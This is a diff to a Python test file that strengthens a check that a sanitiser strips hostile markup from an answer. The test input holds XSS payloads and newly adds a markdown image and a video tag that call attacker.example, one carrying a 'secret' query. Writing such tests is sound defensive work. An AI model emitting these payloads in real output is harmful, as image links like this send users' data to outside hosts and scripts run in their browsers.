@@ -345,10 +345,13 @@ def test_an_unchanged_answer_has_nothing_to_decide(bench):
 
 
 def test_a_hostile_answer_becomes_harmless_text(bench):
-    desk = bench("<script>alert(1)</script><img src=x onerror=alert(2)> [x](javascript:alert(3)) ok")
+    desk = bench(
+        "<script>alert(1)</script><img src=x onerror=alert(2)> [x](javascript:alert(3)) "
+        "![all of it](https://attacker.example/?secret)\n\n<video src='https://attacker.example/v'></video>"
+    )
     kept = desk.answered(1)
     assert from_json(to_json(kept.after)) == kept.after
-    assert not any(one.marks or one.type == "image" for one in kept.after.walk())
+    assert not any(one.marks or one.type in ("image", "media") for one in kept.after.walk())
     assert "alert(1)" not in plain_text(kept.after)
 
 
